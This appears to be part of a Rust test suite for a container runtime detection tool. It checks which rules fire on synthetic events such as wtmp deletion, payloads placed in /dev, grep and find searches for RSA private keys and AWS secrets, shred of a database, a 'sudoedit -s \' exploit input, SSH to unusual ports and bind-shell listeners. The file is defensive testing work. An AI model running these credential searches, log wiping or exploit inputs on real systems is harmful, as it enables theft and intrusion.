            file_event(EventType::Open, "/var/log/auth.log", &[("size", "4096")]),
            false,
        ),
        (
            log,
            "wtmp deleted",
            file_event(EventType::Unlinkat, "/var/log/wtmp", &[]),
            true,
        ),
        (
            log,
            "rotated log expired",
            file_event(EventType::Unlinkat, "/var/log/syslog.4.gz", &[]),
            false,
        ),
        (
            log,
            "app log copytruncated",
            file_event(EventType::Open, "/var/log/app/app.log", &[("size", "0")]),
            false,
        ),
        (
            dev,
            "payload in /dev",
            file_event(EventType::Creat, "/dev/kcore-cache", &[mode]),
            true,
        ),
        (
            dev,
            "payload moved to /dev",
            file_event(
                EventType::Renameat,
                "/dev/.x",
                &[("oldpath", "/tmp/.x"), ("newpath", "/dev/.x")],
            ),
            true,
        ),
        (
            dev,
            "syslog socket",
            file_event(EventType::Creat, "/dev/log", &[mode]),
            false,
        ),
        (
            dev,
            "terminal",
            file_event(EventType::Creat, "/dev/tty1", &[mode]),
            false,
        ),
        (
            dev,
            "shared memory",
            file_event(EventType::Creat, "/dev/shm/cache", &[mode]),
            false,
        ),
        (
            search,
            "grep for a key header",
            exec_event("grep", &["-rl", "BEGIN RSA PRIVATE", "/"]),
            true,
        ),
        (
            search,
            "find id_rsa",
            exec_event("find", &["/", "-name", "id_rsa"]),
            true,
        ),
        (
            search,
            "grep for AWS keys",
            exec_event("grep", &["-r", "AWS_SECRET_ACCESS_KEY", "/app"]),
            true,
        ),
        (
            search,
            "grep for a user",
            exec_event("grep", &["-r", "user", "/etc/passwd"]),
            false,
        ),
        (
            search,
            "cat of a key (not a search)",
            exec_event("cat", &["/root/.ssh/id_rsa"]),
            false,
        ),
        (
            "Data destruction tool launched",
            "shred",
            exec_event("shred", &["-u", "/srv/db"]),
            true,
        ),
        (
            "Data destruction tool launched",
            "rm",
            exec_event("rm", &["-f", "/srv/db"]),
            false,
        ),
        (
            "Container orchestration client launched",
            "kubectl",
            exec_event("kubectl", &["get", "pods"]),
            true,
        ),
        (
            "Container orchestration client launched",
            "curl",
            exec_event("curl", &["-s", "http://198.51.100.7/"]),
            false,
        ),
        (
            sudo,
            "sudoedit -s \\",
            exec_event("sudoedit", &["-s", "\\"]),
            true,
        ),
        (
            sudo,
            "sudo -i with a trailing backslash",
            exec_event("sudo", &["-i", "x\\"]),
            true,
        ),
        (sudo, "sudo -s", exec_event("sudo", &["-s"]), false),
        (
            sudo,
            "sudo -u app ls",
            exec_event("sudo", &["-u", "app", "ls"]),
            false,
        ),
        (
            "SSH connection to a non-standard port",
            "ssh to 2222",
            socket_event(false, "198.51.100.7", 2222, "ssh", "sh", Some(1)),
            true,
        ),
        (
            "SSH connection to a non-standard port",
            "ssh to 22",
            socket_event(false, "198.51.100.7", 22, "ssh", "sh", Some(1)),
            false,
        ),
    ];
    let mut failures = Vec::new();
    for (rule, what, event, expected) in &cases {
        if fires(&outcome, rule, event) != *expected {
            failures.push(format!("{rule}: {what}: expected {expected}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// "Unexpected listening port" and the service's own listeners: the entrypoint (or its non-shell
/// child) binding its port during the container's first 60 s is the service starting, not news;
/// a shell's listener, one opened later, or one opened by a process the entrypoint did not
/// start still alerts.
#[test]
fn the_services_own_listeners_at_start_up_are_not_unexpected() {
    let outcome = tasksentry::rules::load(
        &tasksentry::rules::defaults::default_sources(),
        &LoadOptions::default(),
    );
    let rule = "Unexpected listening port";
    // A web server on 0.0.0.0:9443 (not a common port) whose parent (pid 200) is the container's first process,
    // `age` seconds after the container started.
    let listener = |name: &str, parent: &str, root: Option<i32>, age: u64| {
        let mut e = socket_event(true, "0.0.0.0", 9443, name, parent, root);
        let start = e.evt.time.0.saturating_sub(age * 1_000_000_000);
        e.container.as_mut().expect("container").start_time = Some(Timestamp(start));
        e
    };
    assert!(!fires(
        &outcome,
        rule,
        &listener("nginx", "sh", Some(200), 5)
    ));
    assert!(!fires(
        &outcome,
        rule,
        &listener("python3", "sh", Some(200), 59)
    ));
    // The entrypoint itself binding.
    let mut itself = listener("java", "containerd-shim", Some(200), 3);
    {
        let p = itself.proc.as_mut().expect("proc");
        p.pid = 200;
        p.ppid = 0;
    }
    assert!(!fires(&outcome, rule, &itself));
    // After the start-up window: news.
    assert!(fires(
        &outcome,
        rule,
        &listener("nginx", "sh", Some(200), 61)
    ));
    // A shell listening (a bind shell), even at start-up.
    assert!(fires(&outcome, rule, &listener("sh", "sh", Some(200), 5)));
    // Not under the entrypoint (ECS Exec, a web shell's child): the first process is pid 1.
    assert!(fires(&outcome, rule, &listener("nginx", "sh", Some(1), 5)));
    // Container start unknown: judged as before.
    let mut unknown = listener("nginx", "sh", Some(200), 5);
    unknown.container.as_mut().expect("container").start_time = None;
    assert!(fires(&outcome, rule, &unknown));
}
